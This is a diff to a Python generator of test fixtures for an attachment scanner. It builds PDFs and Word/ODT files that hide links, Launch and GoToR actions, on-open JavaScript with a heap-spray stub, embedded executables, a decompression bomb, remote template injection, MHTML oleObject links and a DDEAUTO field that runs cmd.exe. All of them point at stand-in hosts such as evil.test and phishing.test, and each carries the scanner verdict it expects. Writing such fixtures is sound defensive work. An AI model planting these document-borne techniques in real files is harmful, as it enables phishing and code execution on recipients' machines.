@@ -1076,6 +1076,7 @@ def build_cases():
     build_structure_cases()
     build_clean_cases()
     build_url_cases()
+    build_docs_cases()
 
 
 def hdr_block(name, idx, lang, subject, extra):
@@ -1828,6 +1829,414 @@ def build_url_cases():
         present: href="#"
         present: port and trailing dot</a>
         kept: 2""")
+# --------------------------------------------------------------------------
+# Documents (issue 10 section 5): PDFs whose links and actions hide in
+# compressed object streams, and Office packages with external relationships.
+# Written to tests/data/payloads/docs/ for the unit tests and the fuzzer, and
+# attached to the docs_* corpus cases.
+# --------------------------------------------------------------------------
+
+def pdf_stream(data, extra=b"", flate=True):
+    """A stream object body, Flate-compressed unless told otherwise."""
+    if flate:
+        data = zlib.compress(data, 9)
+        extra = b" /Filter /FlateDecode" + extra
+    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"
+
+
+def pdf_build(objs, packed=(), trailer=b"", head=b""):
+    """A PDF from object bodies numbered 1..n (1 is the catalog). Objects whose
+    numbers are in `packed` go into one Flate-compressed object stream indexed
+    by a cross-reference stream (PDF 1.5); without, a classic xref table."""
+    n = len(objs)
+    out = bytearray(head + (b"%PDF-1.5\n" if packed else b"%PDF-1.4\n") + b"%\xe2\xe3\xcf\xd3\n")
+    offs = {}
+    for i, o in enumerate(objs, 1):
+        if i not in packed:
+            offs[i] = len(out)
+            out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
+    if not packed:
+        xref = len(out)
+        out += b"xref\n0 %d\n0000000000 65535 f \n" % (n + 1)
+        for i in range(1, n + 1):
+            out += b"%010d 00000 n \n" % offs[i]
+        out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (n + 1, trailer, xref)
+        return bytes(out)
+    packed = sorted(packed)
+    index, body = b"", b""
+    for i in packed:
+        assert b"stream\n" not in objs[i - 1], "a stream cannot be in an object stream"
+        index += b"%d %d " % (i, len(body))
+        body += objs[i - 1] + b"\n"
+    sn, xn = n + 1, n + 2
+    offs[sn] = len(out)
+    out += b"%d 0 obj\n" % sn + pdf_stream(index + body, b" /Type /ObjStm /N %d /First %d"
+                                           % (len(packed), len(index))) + b"\nendobj\n"
+    offs[xn] = len(out)
+    rows = struct.pack(">BIH", 0, 0, 65535)
+    for i in range(1, xn + 1):
+        rows += (struct.pack(">BIH", 2, sn, packed.index(i)) if i in packed
+                 else struct.pack(">BIH", 1, offs[i], 0))
+    out += b"%d 0 obj\n" % xn + pdf_stream(rows, b" /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R%s"
+                                           % (xn + 1, trailer)) + b"\nendobj\n"
+    out += b"startxref\n%d\n%%%%EOF\n" % offs[xn]
+    return bytes(out)
+
+
+def pdf_doc(lines, catalog=b"", annots=(), extra=(), packed=False, contents=(4,)):
+    """A one-page PDF: 1 catalog (+ catalog), 2 pages, 3 page (annots: object
+    numbers), 4 its text, Flate-compressed, 5 a font, 6... the extra objects.
+    packed: every object that is not a stream goes into an object stream."""
+    text = b"BT /F1 12 Tf 72 750 Td 14 TL\n"
+    for ln in lines:
+        text += b"(" + ln.encode("latin-1") + b") Tj T*\n"
+    text += b"ET\n"
+    refs = lambda nums: b" ".join(b"%d 0 R" % k for k in nums)
+    objs = [b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>"
+            b" /Contents [" + refs(contents) + b"]" + (b" /Annots [" + refs(annots) + b"]" if annots else b"")
+            + b" >>",
+            pdf_stream(text),
+            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"] + list(extra)
+    pk = {i for i, o in enumerate(objs, 1) if b"stream\n" not in o} if packed else ()
+    return pdf_build(objs, pk)
+
+
+def pdf_link(rect_y, action):
+    return (b"<< /Type /Annot /Subtype /Link /Rect [72 %d 300 %d] /Border [0 0 0] /A " % (rect_y, rect_y + 20)
+            + action + b" >>")
+
+
+def pdf_str(s):
+    """A PDF literal string for s (latin-1), escapes included."""
+    return b"(" + s.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"
+
+
+INVOICE_LINES = ["Invoice 2024-0118", "Total: 118.00 EUR", "Thank you for your order."]
+
+JS_EXPLOIT_LIKE = (b"var spray = unescape('%u0c0c%u0c0c');\n"
+                   b"while (spray.length < 0x10000) spray += spray;\n"
+                   b"var parts = new Array();\n"
+                   b"for (var i = 0; i < 200; i++) parts[i] = spray + 'invoice';\n"
+                   b"app.alert('Loading your invoice...');\n")
+
+MSGBOX_VBS = b'MsgBox "Your invoice is ready", 0, "Invoice"\r\n'
+
+
+def docs_pdfs():
+    """name -> bytes of the PDFs of the docs cases and unit tests."""
+    d = {}
+    # A link annotation and its URI action, both inside a compressed object stream.
+    d["uri_objstm.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), packed=True, extra=[
+        pdf_link(700, b"7 0 R"),
+        b"<< /Type /Action /S /URI /URI (https://malware.invalid/pdf/objstm-statement.exe) >>"])
+    # The annotation compressed, its names #-escaped, its URI a hex string in another object.
+    d["uri_flate_annot.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), packed=True, extra=[
+        b"<< /Type /Annot /Subtype /L#69nk /Rect [72 700 300 720] /A << /S /U#52I /U#52I 7 0 R >> >>",
+        b"<" + binascii.hexlify(b"https://phishing.test/pdf/verify-account").upper() + b">"])
+    d["launch_unc.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), packed=True, extra=[
+        pdf_link(700, b"<< /S /Launch /Win << /F " + pdf_str("\\\\fileshare.evil.test\\pub\\update.exe")
+                 + b" /P (/silent) >> >>")])
+    d["gotor_remote.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), extra=[
+        pdf_link(700, b"<< /S /GoToR /F << /Type /Filespec /FS /URL /F "
+                 b"(https://docs-share.evil.test/statement-2024.pdf) >> /D [0 /Fit] >>")])
+    d["gotor_unc.pdf"] = pdf_doc(INVOICE_LINES, catalog=b" /OpenAction 6 0 R", extra=[
+        b"<< /S /GoToR /F (//fileshare.evil.test/pub/statement.pdf) /D [0 /Fit] >>"])
+    d["gotor_local.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), extra=[
+        pdf_link(700, b"<< /S /GoToR /F (terms-and-conditions.pdf) /D [0 /Fit] >>")])
+    d["openaction_js.pdf"] = pdf_doc(INVOICE_LINES, catalog=b" /OpenAction 6 0 R", packed=True, extra=[
+        b"<< /S /JavaScript /JS 7 0 R >>", pdf_stream(JS_EXPLOIT_LIKE)])
+    # Document-level script (the Names tree), chained by /Next from a print action.
+    d["names_js.pdf"] = pdf_doc(INVOICE_LINES, catalog=b" /Names << /JavaScript 6 0 R >>", extra=[
+        b"<< /Names [(init) 7 0 R] >>",
+        b"<< /S /JavaScript /JS (this.print\\(\\);) /Next 8 0 R >>",
+        b"<< /S /JavaScript /JS (app.launchURL\\('https://phishing.test/pdf/js-redirect', true\\);) >>"])
+    # The object stream's compressed bytes damaged: its objects cannot be read.
+    good = d["uri_objstm.pdf"]
+    at = good.index(b"stream\n", good.index(b"/Type /ObjStm")) + 7 + 12
+    d["objstm_damaged.pdf"] = good[:at] + bytes(b ^ 0x5A for b in good[at:at + 24]) + good[at + 24:]
+    # URI strings in every form a PDF may write them: escapes, octal, an escaped
+    # line end, UTF-16 with a byte-order mark, a NUL byte, an indirect string.
+    d["uri_escapes.pdf"] = pdf_doc(INVOICE_LINES, annots=(6, 7, 8, 9), extra=[
+        pdf_link(700, b"<< /S /URI /URI (http://p.test/a\\(1\\)\\\\b\\101\\\nc) >>"),
+        pdf_link(670, b"<< /S /URI /URI <FEFF0068007400740070003A002F002F0075002E0074002F> >>"),
+        pdf_link(640, b"<< /S /URI /URI (http://p.test/\\000z) >>"),
+        pdf_link(610, b"<< /S /URI /URI 10 0 R >>"),
+        b"(http://p.test/indirect)"])
+    d["click_js.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), extra=[
+        pdf_link(700, b"<< /S /JavaScript /JS (app.alert\\('Thank you'\\);) >>")])
+    d["embedded_pe.pdf"] = pdf_doc(
+        INVOICE_LINES, catalog=b" /Names << /EmbeddedFiles << /Names [(readme.txt) 6 0 R] >> >>",
+        extra=[b"<< /Type /Filespec /F (readme.txt) /UF (readme.txt) /EF << /F 7 0 R >> >>",
+               pdf_stream(PE, b" /Type /EmbeddedFile /Params << /Size %d >>" % len(PE))])
+    # Behind a filter no reader decodes for an attachment (DCT): typed as it is.
+    d["embedded_dct.pdf"] = pdf_doc(
+        INVOICE_LINES, catalog=b" /Names << /EmbeddedFiles << /Names [(scan.jpg) 6 0 R] >> >>",
+        extra=[b"<< /Type /Filespec /F (scan.jpg) /EF << /F 7 0 R >> >>",
+               pdf_stream(PE, b" /Filter /DCTDecode /Type /EmbeddedFile", flate=False)])
+    d["embedded_vbs.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), extra=[
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /FS 7 0 R >>",
+        b"<< /Type /Filespec /UF (instructions.vbs) /EF << /F 8 0 R >> >>",
+        pdf_stream(MSGBOX_VBS, b" /Type /EmbeddedFile")])
+    d["embedded_csv.pdf"] = pdf_doc(
+        INVOICE_LINES, catalog=b" /Names << /EmbeddedFiles << /Names [(items.csv) 6 0 R] >> >>",
+        extra=[b"<< /Type /Filespec /F (items.csv) /EF << /F 7 0 R >> >>",
+               pdf_stream(b"item;qty;price\nAlpine Trail Jacket;1;118.00\n", b" /Type /EmbeddedFile")])
+    # What an ordinary invoice looks like today: object streams, a link to the
+    # shop, a bookmark, and a script that opens the print dialog.
+    d["invoice_print.pdf"] = pdf_doc(
+        INVOICE_LINES, catalog=b" /OpenAction 6 0 R /Outlines 8 0 R /PageMode /UseOutlines",
+        annots=(7,), packed=True, extra=[
+            b"<< /S /JavaScript /JS (this.print\\({bUI: true, bSilent: false, bShrinkToFit: true}\\);) >>",
+            pdf_link(700, b"<< /S /URI /URI (https://www.example.com/orders/2024-118) >>"),
+            b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
+            b"<< /Title (Invoice 2024-0118) /Parent 8 0 R /Dest [3 0 R /Fit] >>"])
+    d["eicar_flate.pdf"] = pdf_doc(INVOICE_LINES, contents=(4, 6), extra=[pdf_stream(EICAR)])
+    # Needs a password: an encryption dictionary whose /U no empty password matches.
+    d["encrypted.pdf"] = pdf_doc(INVOICE_LINES) .replace(
+        b"/Root 1 0 R >>", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O <"
+        + b"4f" * 32 + b"> /U <" + b"55" * 32 + b"> /P -3904 >> /ID [<" + b"01" * 16 + b"> <"
+        + b"01" * 16 + b">] >>")
+    d["broken.pdf"] = b"%PDF-1.4\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"
+    return d
+
+
+def docs_bomb_pdf():
+    """An object stream that inflates to 64 MiB: for the worker's memory limit."""
+    co = zlib.compressobj(9)
+    index = b"6 0 "
+    body = co.compress(index + b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] >>\n")
+    for _ in range(64):
+        body += co.compress(b" " * (1 << 20))
+    body += co.flush()
+    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [6 0 R] >>",
+            b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
+            % (len(index), len(body)) + body + b"\nendstream"]
+    out = bytearray(b"%PDF-1.5\n")
+    offs = []
+    for i, o in enumerate(objs, 1):
+        offs.append(len(out))
+        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
+    rows = struct.pack(">BIH", 0, 0, 65535)
+    for o in offs:
+        rows += struct.pack(">BIH", 1, o, 0)
+    rows += struct.pack(">BIH", 1, len(out), 0) + struct.pack(">BIH", 2, 4, 0)
+    xoff = len(out)
+    z = zlib.compress(rows)
+    out += (b"5 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d /Filter /FlateDecode >>\n"
+            b"stream\n" % len(z) + z + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xoff)
+    return bytes(out)
+
+
+RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+REL_T = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def rels(items):
+    """items: (id, type, target, external)."""
+    return (CT_HDR + '<Relationships xmlns="%s">' % RELS_NS + "".join(
+        '<Relationship Id="%s" Type="%s%s" Target="%s"%s/>' % (
+            i, REL_T, t, target.replace("&", "&amp;"), ' TargetMode="External"' if ext else "")
+        for i, t, target, ext in items) + "</Relationships>").encode()
+
+
+def make_docx_rels(body, doc_rels=(), settings_rels=None):
+    """A docx whose document has the relationships doc_rels and, with
+    settings_rels, a settings part with relationships of its own."""
+    ct = (CT_HDR + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+          '<Default Extension="xml" ContentType="application/xml"/>'
+          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
+          'officedocument.wordprocessingml.document.main+xml"/>'
+          + ('<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-'
+             'officedocument.wordprocessingml.settings+xml"/>' if settings_rels is not None else '')
+          + '</Types>')
+    w = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
+    doc = CT_HDR + '<w:document %s><w:body>%s</w:body></w:document>' % (w, body)
+    members = [("[Content_Types].xml", ct.encode()),
+               ("_rels/.rels", rels([("rId1", "officeDocument", "word/document.xml", False)])),
+               ("word/document.xml", doc.encode())]
+    drels = list(doc_rels)
+    if settings_rels is not None:
+        drels.append(("rId90", "settings", "settings.xml", False))
+        members += [("word/settings.xml", (CT_HDR + '<w:settings %s><w:attachedTemplate r:id="rId1"/>'
+                                           '</w:settings>' % w).encode()),
+                    ("word/_rels/settings.xml.rels", rels(settings_rels))]
+    if drels:
+        members.append(("word/_rels/document.xml.rels", rels(drels)))
+    return make_zip(members)
+
+
+def w_para(t):
+    return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % t
+
+
+def w_link(rid, t):
+    return ('<w:p><w:hyperlink r:id="%s"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/></w:rPr>'
+            '<w:t>%s</w:t></w:r></w:hyperlink></w:p>' % (rid, t))
+
+
+def make_odt(content_body):
+    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest='
+                '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
+                '<manifest:file-entry manifest:full-path="/" manifest:media-type='
+                '"application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path='
+                '"content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
+    content = ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content '
+               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+               'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"><office:body>'
+               '<office:text>%s</office:text></office:body></office:document-content>' % content_body)
+    return make_zip([("mimetype", b"application/vnd.oasis.opendocument.text"),
+                     ("META-INF/manifest.xml", manifest.encode()), ("content.xml", content.encode())],
+                    deflate=True)
+
+
+def docs_office():
+    d = {}
+    d["hyperlink_blocklisted.docx"] = make_docx_rels(
+        w_para("Please confirm your account details:") +
+        w_link("rId5", "Customer portal"),
+        doc_rels=[("rId5", "hyperlink", "https://credential-harvest.example/office/login?user=mark", True)])
+    d["remote_template.docx"] = make_docx_rels(
+        w_para("Order 2024-118: delivery note"),
+        settings_rels=[("rId1", "attachedTemplate", "http://templates.evil.test/x.dotm", True)])
+    d["benign_link.docx"] = make_docx_rels(
+        w_para("Our returns policy is online:") + w_link("rId5", "Returns policy"),
+        doc_rels=[("rId5", "hyperlink", "https://www.example.com/help/returns", True)])
+    d["oleobject_mhtml.docx"] = make_docx_rels(
+        w_para("Quarterly figures"),
+        doc_rels=[("rId7", "oleObject", "mhtml:http://ole.evil.test/x.html!x-usc:http://ole.evil.test/x.html",
+                   True)])
+    d["frame_unc.docx"] = make_docx_rels(
+        w_para("Meeting notes"),
+        doc_rels=[("rId8", "frame", "\\\\fileshare.evil.test\\pub\\frame.docx", True),
+                  ("rId9", "image", "media/image1.png", False)])
+    d["relative_external.docx"] = make_docx_rels(
+        w_para("Budget, see the linked sheet"),
+        doc_rels=[("rId8", "oleObject", "Budget%202024.xlsx", True)])
+    # Word fields: an INCLUDEPICTURE split over runs (and padded), a HYPERLINK
+    # field, a harmless PAGE field; DDEAUTO in a simple field.
+    run = lambda inner: "<w:r>%s</w:r>" % inner
+    fld = lambda kind: run('<w:fldChar w:fldCharType="%s"/>' % kind)
+    instr = lambda t: run('<w:instrText xml:space="preserve">%s</w:instrText>' % t)
+    d["fields.docx"] = make_docx_rels(
+        "<w:p>" + fld("begin") + instr(" INCLUDEPICTURE " + " " * 6000 + '"http://track')
+        + instr('er.evil.test/p.png" \\d ') + fld("separate") + run("<w:t>logo</w:t>") + fld("end")
+        + "</w:p><w:p>" + fld("begin") + instr(' HYPERLINK "https://phishing.test/word-field" ')
+        + fld("separate") + run("<w:t>portal</w:t>") + fld("end") + "</w:p><w:p>" + fld("begin")
+        + instr(" PAGE ") + fld("separate") + run("<w:t>1</w:t>") + fld("end") + "</w:p>")
+    d["dde.docx"] = make_docx_rels(
+        "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; '>"
+        + run("<w:t>Loading...</w:t>") + "</w:fldSimple></w:p>")
+    d["link.odt"] = make_odt(
+        '<text:p>Log in at <text:a xlink:type="simple" xlink:href="https://phishing.test/odt/login">'
+        'our portal</text:a>.</text:p>'
+        '<text:section text:name="S1"><text:section-source xlink:type="simple" '
+        'xlink:href="http://sections.evil.test/part.odt"/></text:section>')
+    d["bad_xml.docx"] = make_zip([
+        ("[Content_Types].xml", b"<Types/>"), ("_rels/.rels", b"<Relationships><Relationship Id="),
+        ("word/document.xml", b"<w:document/>")])
+    d["utf16_rels.docx"] = make_zip([
+        ("[Content_Types].xml", b"<Types/>"),
+        ("_rels/.rels", b"\xff\xfe" + rels([("rId1", "attachedTemplate", "https://templates.evil.test/u.dotm",
+                                              True)]).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
+         .encode("utf-16-le"))])
+    return d
+
+
+def docs_office_limits():
+    d = {}
+    d["many_members.docx"] = make_zip([("[Content_Types].xml", b"<Types/>")] +
+                                      [("word/media/image%d.png" % i, make_png()) for i in range(40)])
+    d["ratio.docx"] = make_zip([
+        ("[Content_Types].xml", b"<Types/>"),
+        ("_rels/.rels", rels([("rId1", "officeDocument", "word/document.xml", False)])[:-len(b"</Relationships>")]
+         + b" " * (2 << 20) + b"</Relationships>")])
+    return d
+
+
+DOCS_PAYLOADS = {}
+DOCS_PAYLOADS.update(docs_pdfs())
+DOCS_PAYLOADS.update(docs_office())
+
+
+def build_docs_cases():
+    D = DOCS_PAYLOADS
+    pdf = lambda name, fn: attach(fn, D[name], "application/pdf")
+    docx = lambda name, fn: attach(fn, D[name],
+                                   "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
+    removed = """
+        verdict: rewrite
+        removed: 2
+        kept: 1"""
+    mixed("docs_pdf_uri_objstm", "en", "Statement 2024-118", [text(T["en_invoice"]),
+          pdf("uri_objstm.pdf", "Statement_2024_118.pdf")], True, removed + """
+        # the link annotation and its URI action sit in a Flate-compressed object stream
+        rule: url_in_attachment 2
+        url: malicious malware.invalid/pdf/objstm-statement.exe""")
+    mixed("docs_pdf_uri_flate_annot", "de", "Rechnung März", [text(T["de_invoice"]),
+          pdf("uri_flate_annot.pdf", "Rechnung_Maerz.pdf")], False, removed + """
+        # compressed annotation, #-escaped names, the URI a hex string in another object
+        rule: url_in_attachment 2
+        url: malicious phishing.test/pdf/verify-account""")
+    mixed("docs_pdf_launch_unc", "fr", "Facture 2024-118", [text(T["fr_complaint"]),
+          pdf("launch_unc.pdf", "Facture_2024_118.pdf")], True, removed + """
+        # a Launch action that runs \\\\fileshare.evil.test\\pub\\update.exe
+        finding: filetype 2
+        rule: pdf_launch 2""")
+    mixed("docs_pdf_gotor_remote", "es", "Factura pendiente", [text(T["es_invoice"]),
+          pdf("gotor_remote.pdf", "Factura.pdf")], False, removed + """
+        # GoToR to a PDF on a web server; the URL is recorded as a link of the PDF
+        rule: pdf_remote_file 2
+        url: unknown docs-share.evil.test/statement-2024.pdf""")
+    mixed("docs_pdf_openaction_js", "pl", "Faktura", [text(T["pl_complaint"]),
+          pdf("openaction_js.pdf", "Faktura_2024.pdf")], True, removed + """
+        # /OpenAction JavaScript (a Flate stream) that does more than print
+        rule: pdf_javascript 2""")
+    mixed("docs_pdf_embedded_pe", "cs", "Faktura č. 2024/118", [text(T["cs_invoice"]),
+          pdf("embedded_pe.pdf", "Faktura.pdf")], False, removed + """
+        # an embedded file named readme.txt that is a PE program (typed by content)
+        rule: pdf_embedded_executable 2""")
+    mixed("docs_docx_hyperlink_blocklisted", "en", "Account details", [text(T["en_complaint"]),
+          docx("hyperlink_blocklisted.docx", "Account_details.docx")], True, removed + """
+        # an external hyperlink relationship to a blocklisted host
+        rule: url_in_attachment 2
+        url: malicious credential-harvest.example/office/login""")
+    mixed("docs_docx_remote_template", "de", "Lieferschein", [text(T["de_delivery"]),
+          docx("remote_template.docx", "Lieferschein.docx")], False, removed + """
+        # settings.xml.rels: attachedTemplate http://templates.evil.test/x.dotm (remote template injection)
+        rule: office_remote_content 2
+        url: unknown templates.evil.test/x.dotm""")
+    clean = """
+        verdict: clean
+        nofinding: virus
+        nofinding: filetype
+        nofinding: filename
+        nofinding: url
+        nofinding: structure
+        nofinding: limit
+        identical: yes"""
+    mixed("clean_pdf_invoice_print", "pt", "Fatura de março", [text(T["pt_invoice"]),
+          pdf("invoice_print.pdf", "Fatura_2024_118.pdf")], True, clean + """
+        # object streams, a link to an ordinary shop, a bookmark, and print-on-open JavaScript
+        url: unknown www.example.com/orders/2024-118""")
+    mixed("clean_docx_hyperlink", "fr", "Politique de retour", [text(T["fr_complaint"]),
+          docx("benign_link.docx", "Retours.docx")], False, clean + """
+        url: unknown www.example.com/help/returns""")
+    mixed("virus_pdf_flate_eicar", "en", "Invoice 2024-118", [text(T["en_invoice"]),
+          pdf("eicar_flate.pdf", "Invoice_2024_118.pdf")], True, removed + """
+        # EICAR in a Flate-compressed content stream: ClamAV's PDF parser inflates it
+        finding: virus 2
+        rule: virus 2""")
+    mixed("docs_docx_dde", "es", "Pedido 4471", [text(T["es_invoice"]),
+          docx("dde.docx", "Pedido_4471.docx")], True, removed + """
+        # a DDEAUTO field that starts cmd.exe: a macro without a macro project
+        rule: office_macro 2""")
+
 
 README_NOTE = "generated by tests/data/gen_corpus.py: edit the generator, not this file\n"
 
@@ -1842,6 +2251,12 @@ def outputs():
         files[os.path.join(PAYLOAD_DIR, "html", name)] = data.encode()
     for name, data in BINARY_PAYLOADS.items():
         files[os.path.join(PAYLOAD_DIR, name)] = data
+    for name, data in DOCS_PAYLOADS.items():
+        files[os.path.join(PAYLOAD_DIR, "docs", name)] = data
+    limits = {"bomb.pdf": docs_bomb_pdf()}
+    limits.update(docs_office_limits())
+    for name, data in limits.items():
+        files[os.path.join(PAYLOAD_DIR, "docs-limits", name)] = data
     return files
 
 
